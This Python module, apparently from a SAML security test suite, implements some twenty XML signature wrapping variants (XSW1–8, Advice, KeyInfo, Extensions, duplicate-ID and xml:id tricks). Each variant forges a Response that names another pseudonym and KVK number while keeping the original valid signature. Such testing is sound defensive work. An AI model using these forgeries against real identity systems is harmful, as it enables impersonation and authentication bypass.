"""Signature wrapping: a true signature that covers something else than what is read, in every known position.

Each of them changes a Response in place: it says somebody else, and the signature still fits what it was made for.
"""

import secrets
from collections.abc import Callable

from lxml import etree
from lxml.etree import _Element

from buitenwereld.keuring.bouwstenen import NS, Encrypting, Toneel, encrypt, find
from buitenwereld.keuring.vervalsing import identity

Wrap = Callable[[_Element, Toneel], None]

_SAML, _SAMLP, _DS = (f"{{{NS[prefix]}}}" for prefix in ("saml", "samlp", "ds"))
ANDER_PSEUDONIEM = "e" * 64 + "@" + "e" * 32
ANDER_KVK = "87654321"


def _copy(node: _Element) -> _Element:
    return etree.fromstring(etree.tostring(node, with_tail=False))


def _without_signature(node: _Element) -> _Element:
    bare = _copy(node)
    bare.remove(find(bare, "ds:Signature"))
    return bare


def _make_evil(toneel: Toneel, assertion: _Element) -> _Element:
    """Let the assertion say somebody else: the public key to encrypt with is known to all."""
    assertion.set("ID", f"_k{secrets.token_hex(8)}")  # another one each time, or a claim would hide a breach
    statement = find(assertion, "saml:AttributeStatement")
    statement[:] = identity(toneel, pseudoniem=ANDER_PSEUDONIEM, kvk=ANDER_KVK)
    return assertion


def _evil_response(root: _Element, toneel: Toneel) -> tuple[_Element, _Element]:
    """Turn the root into an evil Response; return its old self, and the signature that still covers that."""
    original = _without_signature(root)
    _make_evil(toneel, find(root, "saml:Assertion"))
    root.set("ID", f"_k{secrets.token_hex(8)}")
    return original, find(root, "ds:Signature")


def xsw1(root: _Element, toneel: Toneel) -> None:
    """The true Response inside the signature of an evil one."""
    original, signature = _evil_response(root, toneel)
    signature.append(original)


def xsw2(root: _Element, toneel: Toneel) -> None:
    """The true Response beside the signature of an evil one."""
    original, signature = _evil_response(root, toneel)
    signature.addprevious(original)


def xsw3(root: _Element, toneel: Toneel) -> None:
    """An evil assertion before the true one."""
    original = find(root, "saml:Assertion")
    original.addprevious(_make_evil(toneel, _without_signature(original)))


def xsw4(root: _Element, toneel: Toneel) -> None:
    """The true assertion inside an evil one."""
    original = find(root, "saml:Assertion")
    evil = _make_evil(toneel, _without_signature(original))
    root.replace(original, evil)
    evil.append(original)


def xsw5(root: _Element, toneel: Toneel) -> None:
    """An evil assertion with the signature of the true one, which stands behind it without."""
    evil = find(root, "saml:Assertion")
    root.append(_without_signature(evil))
    _make_evil(toneel, evil)


def xsw6(root: _Element, toneel: Toneel) -> None:
    """The same, with the true assertion inside the signature."""
    evil = find(root, "saml:Assertion")
    find(evil, "ds:Signature").append(_without_signature(evil))
    _make_evil(toneel, evil)


def xsw7(root: _Element, toneel: Toneel) -> None:
    """An evil assertion in the Extensions, before the true one."""
    original = find(root, "saml:Assertion")
    extensions = etree.Element(f"{_SAMLP}Extensions")
    extensions.append(_make_evil(toneel, _without_signature(original)))
    find(root, "samlp:Status").addprevious(extensions)


def xsw8(root: _Element, toneel: Toneel) -> None:
    """The true assertion in an Object of the signature that an evil one carries."""
    evil = find(root, "saml:Assertion")
    original = _without_signature(evil)
    etree.SubElement(find(evil, "ds:Signature"), f"{_DS}Object").append(original)
    _make_evil(toneel, evil)


def into_advice(root: _Element, toneel: Toneel) -> None:
    """The signed assertion becomes the advice of an evil one that borrows its signature."""
    evil = find(root, "saml:Assertion")
    advice = etree.Element(f"{_SAML}Advice")
    advice.append(_without_signature(evil))
    _make_evil(toneel, evil)
    find(evil, "saml:Conditions").addnext(advice)


def signed_into_advice(root: _Element, toneel: Toneel) -> None:
    """The whole signed assertion becomes the advice of an evil one without a signature."""
    original = find(root, "saml:Assertion")
    evil = _make_evil(toneel, _without_signature(original))
    root.replace(original, evil)
    advice = etree.Element(f"{_SAML}Advice")
    advice.append(original)
    find(evil, "saml:Conditions").addnext(advice)


def evil_in_advice(root: _Element, toneel: Toneel) -> None:
    """The other way round: the evil one hides where assertions are not counted."""
    original = find(root, "saml:Assertion")
    advice = etree.Element(f"{_SAML}Advice")
    advice.append(_make_evil(toneel, _without_signature(original)))
    find(original, "saml:Conditions").addnext(advice)


def response_into_object(root: _Element, toneel: Toneel) -> None:
    """The true Response in an Object of the signature."""
    original, signature = _evil_response(root, toneel)
    etree.SubElement(signature, f"{_DS}Object").append(original)


def response_into_key_info(root: _Element, toneel: Toneel) -> None:
    """The true Response in the KeyInfo of the signature."""
    original, signature = _evil_response(root, toneel)
    find(signature, "ds:KeyInfo").append(original)


def response_into_extensions(root: _Element, toneel: Toneel) -> None:
    """The true Response in the Extensions of an evil one."""
    original, signature = _evil_response(root, toneel)
    extensions = etree.Element(f"{_SAMLP}Extensions")
    extensions.append(original)
    signature.addnext(extensions)


def same_id_twice(root: _Element, toneel: Toneel) -> None:
    """An evil assertion with the ID of the true one."""
    original = find(root, "saml:Assertion")
    evil = _make_evil(toneel, _without_signature(original))
    evil.set("ID", str(original.get("ID")))
    original.addprevious(evil)


def xml_id(root: _Element, toneel: Toneel) -> None:
    """A parser registers xml:id as an ID by itself, so the reference could mean this one."""
    original = find(root, "saml:Assertion")
    evil = _make_evil(toneel, _without_signature(original))
    evil.set("{http://www.w3.org/XML/1998/namespace}id", str(original.get("ID")))
    original.addprevious(evil)


def evil_beside(root: _Element, toneel: Toneel) -> None:
    """An evil assertion behind the true one."""
    find(root, "saml:Assertion").addnext(_make_evil(toneel, _without_signature(find(root, "saml:Assertion"))))


def evil_in_attribute(root: _Element, toneel: Toneel) -> None:
    """An evil assertion inside an attribute of the true one."""
    original = find(root, "saml:Assertion")
    value = find(original, "saml:AttributeStatement/saml:Attribute/saml:AttributeValue")
    value.append(_make_evil(toneel, _without_signature(original)))


def evil_encrypted_beside(root: _Element, toneel: Toneel) -> None:
    """An evil assertion, encrypted, beside the true one."""
    holder = etree.SubElement(root, f"{_SAML}EncryptedAssertion")
    evil = _make_evil(toneel, _without_signature(find(root, "saml:Assertion")))
    encrypt(etree.tostring(evil), holder, Encrypting(), toneel)


WRAPPINGS: list[Wrap] = [
    *(xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8),
    *(into_advice, signed_into_advice, evil_in_advice),
    *(response_into_object, response_into_key_info, response_into_extensions),
    *(same_id_twice, xml_id, evil_beside, evil_in_attribute, evil_encrypted_beside),
]
